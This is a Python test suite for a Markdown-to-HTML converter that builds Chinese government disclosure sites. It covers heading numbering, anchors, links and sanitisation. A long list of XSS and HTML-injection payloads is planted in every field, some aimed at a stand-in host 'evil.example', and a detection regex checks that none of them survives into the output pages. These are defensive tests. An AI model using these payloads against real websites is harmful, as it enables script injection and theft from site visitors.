"""Conversion (转换): Markdown → HTML with official numbering, anchors, links with their places, nothing harmful."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser as HTMLParser
from selectolax.lexbor import LexborNode as Node

from generator.build import examine
from generator.convert import convert
from generator.model import Body, Heading, LinkSyntax
from tests.command import on
from tests.documents import NOTICES, notice
from tests.sites import GOOD_SITE, SETTINGS, TODAY, write_site


def _html(body: Body) -> str:
    """The HTML with the link of each slot in braces, as written."""
    parts = [body.pieces[0]]
    for piece, (number, is_text) in zip(body.pieces[1:], body.slots, strict=True):
        link = body.links[number]
        parts += [f"{{{'title of ' if is_text else ''}{link.href}}}", piece]
    return re.sub(r">\s+<", "><", "".join(parts))


NUMBERED = {
    "levels": (
        "一、总体要求\n\n（一）及时发布。按时公开。\n\n1.明确责任。各科室负责。\n\n（1）细化措施。\n\n二、保障",
        '<h2 id="一、总体要求">一、总体要求</h2>'
        '<div class="run-in"><h3 id="（一）及时发布">（一）及时发布。</h3><p>按时公开。</p></div>'
        '<div class="run-in"><h4 id="1.明确责任">1.明确责任。</h4><p>各科室负责。</p></div>'
        '<p class="numbered rank-8">（1）细化措施。</p>'
        '<h2 id="二、保障">二、保障</h2>',
        (
            (2, "一、总体要求", 1),
            (3, "（一）及时发布", 3),
            (4, "1.明确责任", 5),
            (2, "二、保障", 9),
        ),
    ),
    "one paragraph a line, as pasted from Word": (
        "一、要求\n做好公开。\n（一）时限\n当日公开。\n二、保障",
        '<h2 id="一、要求">一、要求</h2><p>做好公开。</p>'
        '<h3 id="（一）时限">（一）时限</h3><p>当日公开。</p><h2 id="二、保障">二、保障</h2>',
        ((2, "一、要求", 1), (3, "（一）时限", 3), (2, "二、保障", 5)),
    ),
    "chapters and articles": (
        "第一章 总则\n\n第一条 为了公开，制定本办法。\n\n第二条　适用本办法。",
        '<h2 id="第一章-总则">第一章 总则</h2>'
        '<p class="article" id="第一条"><span class="label">第一条</span>\u3000为了公开，制定本办法。</p>'
        '<p class="article" id="第二条"><span class="label">第二条</span>\u3000适用本办法。</p>',
        ((2, "第一章 总则", 1),),
    ),
    "under a written heading": (
        "## 办法\n\n一、范围\n\n### 附则\n\n（一）时间",
        '<h2 id="办法">办法</h2><h3 id="一、范围">一、范围</h3>'
        '<h3 id="附则">附则</h3><h4 id="（一）时间">（一）时间</h4>',
        ((2, "办法", 1), (3, "一、范围", 3), (3, "附则", 5), (4, "（一）时间", 7)),
    ),
    "bold headings": (
        "**（一）及时发布。**正文。",
        '<div class="run-in"><h2 id="（一）及时发布"><strong>（一）及时发布。</strong></h2>'
        "<p>正文。</p></div>",
        ((2, "（一）及时发布", 1),),
    ),
    "numbers in links behind a heading": (
        "（一）依据。见[甲政发〔2024〕1号](a.md)，另见[甲政发〔2024〕2号](b.md)。",
        '<div class="run-in"><h2 id="（一）依据">（一）依据。</h2>'
        '<p>见<a href="{a.md}">甲政发〔2024〕1号</a>，另见<a href="{b.md}">甲政发〔2024〕2号</a>。</p></div>',
        ((2, "（一）依据", 1),),
    ),
    "no headings": (
        "附件：1.名录\n\n2.表格\n\n1.5亿元\n\n一、二、三产业\n\n（一）甲；（二）乙；",
        "<p>附件：1.名录</p><p>2.表格</p><p>1.5亿元</p><p>一、二、三产业</p>"
        '<p class="numbered rank-6">（一）甲；（二）乙；</p>',
        (),
    ),
    "the same heading twice": (
        "# 总则\n\n## 总则\n\n## 总则 {: #own }\n\n## own",
        '<h2 id="总则">总则</h2><h2 id="总则-2">总则</h2><h2 id="own">总则</h2><h2 id="own-2">own</h2>',
        ((2, "总则", 1), (2, "总则", 3), (2, "总则", 5), (2, "own", 7)),
    ),
    "headings in lists and quotations": (
        "> # 甲\n\n- ## 乙\n\n1. 丙\n2. ### 丁",
        '<blockquote><h2 id="甲">甲</h2></blockquote><ul><li><h2 id="乙">乙</h2></li></ul>'
        '<ol><li>丙</li><li><h3 id="丁">丁</h3></li></ol>',
        ((2, "甲", 1), (2, "乙", 3), (3, "丁", 6)),
    ),
    "comment in a heading": (
        "一、总则 <!-- 待定 -->\n\n正文",
        '<h2 id="一、总则">一、总则 </h2><p>正文</p>',
        ((2, "一、总则", 1),),
    ),
    "heading written as HTML": (
        "<h1>甲</h1>\n\n<h3 id='b'>乙</h3>",
        '<h2>甲</h2><h3 id="b">乙</h3>',
        ((3, "乙", 1),),
    ),
    "code": ("```\n一、代码\n```\n\n`一、`", "<pre><code>一、代码\n</code></pre>", ()),
}


@pytest.mark.parametrize("case", NUMBERED)
def test_official_numbering(case: str) -> None:
    text, html, outline = NUMBERED[case]
    body = convert(text)
    assert _html(body).startswith(html)
    assert [(one.level, one.text, one.line) for one in body.outline][: len(outline)] == list(
        outline
    )
    assert {one.id for one in body.outline} <= body.anchors


def test_an_address_in_brackets_is_a_link_even_where_it_is_only_a_host() -> None:
    found = convert("见<https://www.example.gov.cn>。")
    assert [(one.href, one.text, one.column) for one in found.links] == [
        ("https://www.example.gov.cn", "https://www.example.gov.cn", 2)
    ]


def test_an_anchor_stays_when_a_heading_is_added() -> None:
    before = convert("一、要求\n\n二、保障").outline
    after = convert("一、要求\n\n二、步骤\n\n三、保障\n\n## 要求").outline
    assert before[0] in after
    assert before[1] == Heading(2, "二、保障", "二、保障", 3)


MARKUP = {
    "lines of Chinese": ("甲，\n乙。\n丙 a\nb", "<p>甲，乙。丙 a\nb</p>"),
    "bold beside Chinese quotation marks": (
        "坚持**“先审查、后公开”**原则，**真。**她",
        "<p>坚持<strong>“先审查、后公开”</strong>原则，<strong>真。</strong>她</p>",
    ),
    "table": (
        "| 甲 | 乙 |\n| --- | --- |\n| 1 | 2 |",
        '<div class="table-wrap" tabindex="0" role="region" aria-label="表格1"><table><thead><tr>'
        '<th scope="col">甲</th><th scope="col">乙</th></tr></thead>'
        "<tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>",
    ),
    "footnote": (
        "甲[^1]\n\n[^1]: 注",
        '<p>甲<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>'
        '<div class="footnote"><hr><ol><li id="fn:1"><p>注&nbsp;'
        '<a class="footnote-backref" href="#fnref:1" title="回到正文第 1 处注释">↩</a></p></li></ol></div>',
    ),
    "definitions": ("词\n: 义", "<dl><dt>词</dt><dd>义</dd></dl>"),
    "attributes": ("甲\n{: .note #n }", '<p class="note" id="n">甲</p>'),
    "list that begins at three": ("3. 丙\n4. 丁", '<ol start="3"><li>丙</li><li>丁</li></ol>'),
    "list in a list": ("- 甲\n    - 乙", "<ul><li>甲<ul><li>乙</li></ul></li></ul>"),
    "reference": ("见[[某号]]。", '<p>见<a href="{某号}">某号</a>。</p>'),
    "reference with words": ("见[[a/b.md|此文]]。", '<p>见<a href="{a/b.md}">此文</a>。</p>'),
    "reference to a path": ("[[a/b.md]]", '<p><a href="{a/b.md}">{title of a/b.md}</a></p>'),
    "reference in a table": (
        "| 甲 |\n| --- |\n| [[某号|此文]] |",
        '<div class="table-wrap" tabindex="0" role="region" aria-label="表格1"><table><thead><tr>'
        '<th scope="col">甲</th></tr></thead>'
        '<tbody><tr><td><a href="{某号}">此文</a></td></tr></tbody></table></div>',
    ),
    "reference in code": ("`[[某号]]`", "<p><code>[[某号]]</code></p>"),
    "contents": (
        "[TOC]\n\n一、甲",
        '<div class="toc"><ul><li><a href="{#一、甲}">一、甲</a></li></ul></div>'
        '<h2 id="一、甲">一、甲</h2>',
    ),
    "unclosed style": ("甲\n\n乙<style>丙\n\n丁", "<p>甲</p><p>乙<span>丙</span></p><p>丁</p>"),
    "unclosed title": ("甲<title>乙\n\n丙", "<p>甲<span>乙</span></p><p>丙</p>"),
    "control characters": ("甲\x00乙\ufdd0丙", "<p>甲 乙 丙</p>"),
    "characters of the converter by number": (
        "[甲](b.md)&#xFDD0;9&#64977; <i title='&#xFDD5;'>乙</i>",
        '<p><a href="{b.md}">甲</a>        9         <i title="        ">乙</i></p>',
    ),
}


@pytest.mark.parametrize("case", MARKUP)
def test_markup(case: str) -> None:
    text, html = MARKUP[case]
    assert _html(convert(text)) == html


def test_links_are_recorded_with_their_words_and_places() -> None:
    body = convert(
        "见[甲 **乙**](a.md)和![图](b.png)。\n\n依照海府办发〔2024〕16号和[[丙]]，<a href='c.md'>丁</a>。",
        7,
    )
    assert [
        (link.syntax, link.href, link.text, link.line, link.column, link.element)
        for link in body.links
    ] == [
        (LinkSyntax.LINK, "a.md", "甲 乙", 7, 2, "a"),
        (LinkSyntax.IMAGE, "b.png", "图", 7, 18, "img"),
        (LinkSyntax.NUMBER, "依照海府办发〔2024〕16号", "依照海府办发〔2024〕16号", 9, 7, "a"),
        (LinkSyntax.REFERENCE, "丙", "丙", 9, 17, "a"),
        (LinkSyntax.LINK, "c.md", "丁", 9, 23, "a"),
    ]


def test_the_plain_text() -> None:
    body = convert(
        "一、甲\n\n（一）乙。丙[丁](a.md)&lt;\n\n| 戊 |\n| --- |\n| 己 |\n\n![庚](b.png)"
    )
    assert body.text == "一、甲\n（一）乙。\n丙丁<\n戊\n己"


@pytest.mark.parametrize(
    "text",
    ["\n".join(f"{'    ' * depth}- 甲" for depth in range(300)), "甲\n: 乙\n" * 3000],
    ids=["lists", "definitions"],
)
def test_what_lies_too_deep_keeps_its_text_and_has_a_flaw(text: str) -> None:
    body = convert(f"\n\n{text}", 5)
    assert [(flaw.rule, flaw.line, flaw.column) for flaw in body.flaws] == [("unsafe-file", 7, 1)]
    assert body.text == text.strip()
    # The converter is as good as new.
    assert _html(convert("- 甲")) == "<ul><li>甲</li></ul>"


@pytest.mark.parametrize("filler", [" ", "\u3000", "\t", "|", "-", "| ", "*", "(", "一、"])
def test_long_runs_of_one_sign_take_no_longer_than_text(filler: str) -> None:
    assert convert(filler * 30_000 + "甲").text.endswith("甲")


# What an attacker, or a web page pasted in, may write; each is tried in every field and in the body.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "<!--",
    "--><script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;ava\tscript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<form action=//evil.example><input name=x onfocus=x autofocus>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    '<object data="javascript:alert(1)"><embed src=//evil.example>',
    "<details ontoggle=alert(1) open>",
    '<p style="background:url(//evil.example);position:fixed">x</p>',
    "[x](javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](y.png)',
    '[x](y.md "a\\" onclick=\\"alert(1)")',
    '[x](<y.md" onclick="alert(1)>)',
    '[[x" onclick="alert(1)]]',
    "[[x|<script>alert(1)</script>]]",
    "[a]\n\n[a]: javascript:alert(1)",
    '## x {: onclick="alert(1)" style="x:y" }',
    "一、<img src=x onerror=alert(1)>标题",
    "| <script> |\n| --- |\n| <img onerror=x> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="a.png" srcset="//evil.example 2x">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<plaintext><script>",
    "<textarea><script>",
    "<xmp><script>alert(1)</script></xmp>",
    '<video poster="javascript:x" src="data:text/html,x"></video>',
    '<table><td background="//evil.example">',
    '<a href="x" ping="//evil.example" target="_blank">x</a>',
)
_ELEMENTS = {"script", "style", "iframe", "frame", "object", "embed", "svg", "math", "template"}


def _quoted(text: str) -> str:
    return (
        '"'
        + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t")
        + '"'
    )


def _attacked() -> dict[str, str | bytes]:
    """A site that has every payload in every field, in bodies, in names of files and in the settings."""
    files: dict[str, str | bytes] = {}
    for number, payload in enumerate(PAYLOADS):
        text = _quoted(payload)
        files[f"{NOTICES}/p{number}.md"] = notice(
            100 + number,
            f"标题: {_quoted('甲' + payload)}",
            *(f"{key}: {text}" for key in ("内容概述", "来源", "咨询方式", "发文字号", "期次")),
            *(f"{key}: [{text}]" for key in ("关键词", "发文机关", "相关")),
            f"附件: [{{文件: {text}, 名称: {text}}}]",
            f"问答: [{{问: {text}, 答: {text}, 政策: {text}}}]",
            f"征集: {{不足三十日的理由: {text}, 意见采纳情况: [{{反馈人: {text}, 意见: {text}, 理由: {text}}}]}}",
            body=payload,
        )
        files[f"content/statutory/work-points/p{number}.md"] = notice(
            200 + number,
            "年度: 2026",
            f"任务: [{{任务: {text}, 要求: {text}, 牵头单位: {text}, 时限: {text}, 落实情况: {text}}}]",
            f"撤下: {{原因: {text}, 替代: {text}}}" if number % 2 else "草稿: 否",
        )
        name = re.sub(r"[/\x00-\x1f\\]", "_", payload)[:60]
        files[f"{NOTICES}/{name}.md"] = notice(300 + number, f"附件: [{_quoted(name + '.csv')}]")
        files[f"{NOTICES}/{name}.csv"] = "甲\n"
    script = "'\"><script>alert(1)</script>'"
    files["site.yaml"] = (
        SETTINGS.replace("name: 海川市数据与政务公开局\n", f"name: {script}\n")
        .replace("address: 海川市望潮区公开路1号", f"address: {script}")
        .replace("email: zwgk@www.example.gov.cn", f"email: {script}")
        .replace("title: 公共数据开放,", f"title: {script},")
        .replace("icp: 海ICP备00000000号", f"icp: {script}")
        + f"columns:\n  guide: {{title: {script}, summary: {script}}}\n"
        "  institution:\n  statutory:\n  annual-report:\n"
    )
    return {**GOOD_SITE, **files}


def _is_our_own(node: Node, attributes: dict[str, str]) -> bool:
    """A script of ours by address, data that no browser runs, and a drawing of a chart."""
    if node.tag == "script" and attributes == {"type": "application/ld+json"}:
        return bool(json.loads(node.text()))
    if node.tag == "svg":
        around = node.parent
        return around is not None and around.attributes.get("class") == "chart"
    return node.tag == "script" and bool(
        re.fullmatch(r"(\.\./)*static/\w+\.js", attributes.get("src", ""))
    )


def test_nothing_that_runs_reaches_a_page(tmp_path: Path) -> None:
    outcome = examine(write_site(tmp_path, _attacked()), TODAY)
    assert "broken-template" not in {finding.rule for finding in outcome.findings}
    wrong: list[tuple[str, str]] = []
    for page in outcome.pages:
        if not page.url.endswith(".html"):
            continue
        for node in HTMLParser(page.content.decode()).css("*"):
            attributes = {name: value or "" for name, value in node.attributes.items()}
            if _is_our_own(node, attributes):
                continue
            runs = [
                name
                for name in attributes
                if name.startswith("on") or name in ("style", "srcset", "ping")
            ]
            leads = [
                value
                for name, value in attributes.items()
                if name
                in ("href", "src", "action", "poster", "cite", "formaction", "data", "content")
                and re.match(
                    r"[\s\x00-\x20]*(?:javascript|vbscript|data):|//evil", value, re.IGNORECASE
                )
            ]
            if node.tag in _ELEMENTS or runs or leads:
                wrong.append((page.url, node.html or ""))
    assert wrong == []


def test_reports_of_an_attacked_site_are_well_formed(tmp_path: Path) -> None:
    site = write_site(tmp_path, _attacked())
    for form in ("json", "sarif"):
        assert on(site, "check", "--format", form).json
